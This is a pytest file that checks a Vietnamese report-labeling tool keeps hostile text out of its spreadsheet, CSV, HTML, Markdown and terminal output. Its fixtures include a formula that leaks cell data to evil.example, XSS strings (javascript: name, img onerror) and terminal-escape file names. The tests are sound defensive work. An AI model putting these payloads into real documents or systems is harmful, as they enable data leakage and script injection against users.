"""Hostile text and file names in outputs: no formula, script, markup or terminal control gets through."""

from __future__ import annotations

import csv
import os
import re
import sys
from html.parser import HTMLParser

import openpyxl
import pytest

from nq35cls.cli import main
from nq35cls.review import read_review
from nq35cls.safe_text import (
    file_href,
    from_spreadsheet_text,
    markdown_text,
    printable,
    spreadsheet_text,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Xem chi tiết")',
    "=1+1",
    "+2+3 là một dòng bắt đầu bằng dấu cộng",
    "-5+5 và một dấu trừ",
    "@SUM(A1:A9)",
]
REPORT = (
    "\n".join(
        [
            "BÁO CÁO SƠ KẾT",
            "I. KẾT QUẢ ĐẠT ĐƯỢC",
            "Huyện đã tổ chức 24 hội nghị quán triệt cho cán bộ, đảng viên.",
            *FORMULAS,
        ]
    )
    + "\n"
)


@pytest.fixture()
def hostile(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    # each file a little different: byte-identical inputs are labeled once
    (folder / "=evil.txt").write_text(REPORT + "Tệp 1.\n", encoding="utf-8")
    (folder / "javascript:alert(12).txt").write_text(REPORT + "Tệp 2.\n", encoding="utf-8")
    (folder / "báo cáo #2.txt").write_text(
        REPORT.replace("đảng viên.", "đảng viên <img src=x onerror=alert(1)> *đậm* [liên kết](http://x)."),
        encoding="utf-8",
    )
    if sys.platform != "win32":
        (folder / "tên\x1b]0;pwned\x07\nOK.txt").write_text(REPORT + "Tệp 3.\n", encoding="utf-8")
        with open(os.path.join(os.fsencode(folder), b"bad-\xff-name.txt"), "wb") as fh:
            fh.write((REPORT + "Tệp 4.\n").encode("utf-8"))
    return folder


def test_spreadsheet_text_round_trips():
    for value in [*FORMULAS, "\tx", "\rx", "Bình thường", "", "'=quoted", "''-x", "'plain"]:
        assert from_spreadsheet_text(spreadsheet_text(value)) == value
    assert spreadsheet_text("=1+1") == "'=1+1" and spreadsheet_text("- gạch đầu dòng") == "'- gạch đầu dòng"
    assert spreadsheet_text("Kết quả") == "Kết quả"


def test_xlsx_cells_are_text_never_formulas(hostile, small_model_file, tmp_path):
    out = tmp_path / "out.xlsx"
    assert (
        main(["label", str(hostile), "--model", str(small_model_file), "-o", str(out), "-q", "--keep-boilerplate"]) == 0
    )
    book = openpyxl.load_workbook(out)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for formula in FORMULAS:
        assert formula in texts  # kept as the same text
    assert "=evil.txt" in " ".join(texts) and not any("\x1b" in t for t in texts)


def test_csv_and_review_cells_are_neutralised_and_read_back(hostile, small_model_file, tmp_path):
    out, review = tmp_path / "out.csv", tmp_path / "review.csv"
    args = ["label", str(hostile), "--model", str(small_model_file), "-o", str(out), "-q"]
    assert main([*args, "--review", str(review), "--review-size", "500"]) == 0
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    cells = [v for row in rows for k, v in row.items() if k != "sentences"]
    assert not [c for c in cells if c and c[0] in "=+-@\t\r"]
    assert "'=1+1" in {r["text"] for r in rows}
    assert any(r["file"].endswith("'=evil.txt") or "=evil.txt" in r["file"] for r in rows)
    with open(review, encoding="utf-8-sig", newline="") as fh:
        review_rows = list(csv.DictReader(fh))
    assert not [v for row in review_rows for v in row.values() if v and v[0] in "=+-@\t\r"]
    for row in review_rows:
        row["correct_label"] = "results"
    with open(review, "w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(review_rows[0]))
        writer.writeheader()
        writer.writerows(review_rows)
    back = {r.text for r in read_review(review)}
    assert set(FORMULAS) <= back


class _Links(HTMLParser):
    def __init__(self):
        super().__init__()
        self.hrefs = []

    def handle_starttag(self, tag, attrs):
        self.hrefs += [v for k, v in attrs if k == "href"]


def test_html_links_are_relative_encoded_files(hostile, small_model_file, tmp_path):
    out = tmp_path / "out.html"
    assert main(["label", str(hostile), "--model", str(small_model_file), "-o", str(out), "-q"]) == 0
    page = out.read_text(encoding="utf-8")
    parser = _Links()
    parser.feed(page)
    files = [h for h in parser.hrefs if not h.startswith("#")]
    assert files
    for href in files:
        assert href.startswith(("./", "../")), href
        assert ":" not in href and " " not in href and "#" not in href, href
    assert "./in/javascript%3Aalert%2812%29.txt" in files
    assert "./in/b%C3%A1o%20c%C3%A1o%20%232.txt" in files
    assert "\x1b" not in page and "<img src=x" not in page


def test_markdown_escapes_text_and_names(hostile, small_model_file, tmp_path):
    out = tmp_path / "out.md"
    assert main(["label", str(hostile), "--model", str(small_model_file), "-o", str(out), "-q"]) == 0
    text = out.read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)<", text) and "\\<img src=x onerror=alert\\(1\\)\\>" in text
    assert "\x1b" not in text
    table = [line for line in text.splitlines() if line.startswith("| ") and "|---" not in line]
    assert all(line.rstrip().endswith("|") for line in table)  # no row broken by a newline in a name


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX file names")
def test_stderr_shows_control_characters_escaped(hostile, small_model_file, capsys):
    assert main(["label", str(hostile), "--model", str(small_model_file), "-o", os.devnull, "--force"]) == 0
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err
    assert "tên\\x1b]0;pwned\\x07\\x0aOK.txt" in err
    assert "bad-\\xff-name.txt" in err
    assert len(err.splitlines()) == 6  # one line per file, none forged, and the closing summary


def test_helpers():
    assert printable("a\nb\x9bc") == "a\\x0ab\\x9bc"
    assert file_href("x.txt", None) == "./x.txt"
    assert file_href("/abs/a b.txt", None) == "file:///abs/a%20b.txt"
    assert markdown_text("a|b") == "a\\|b"
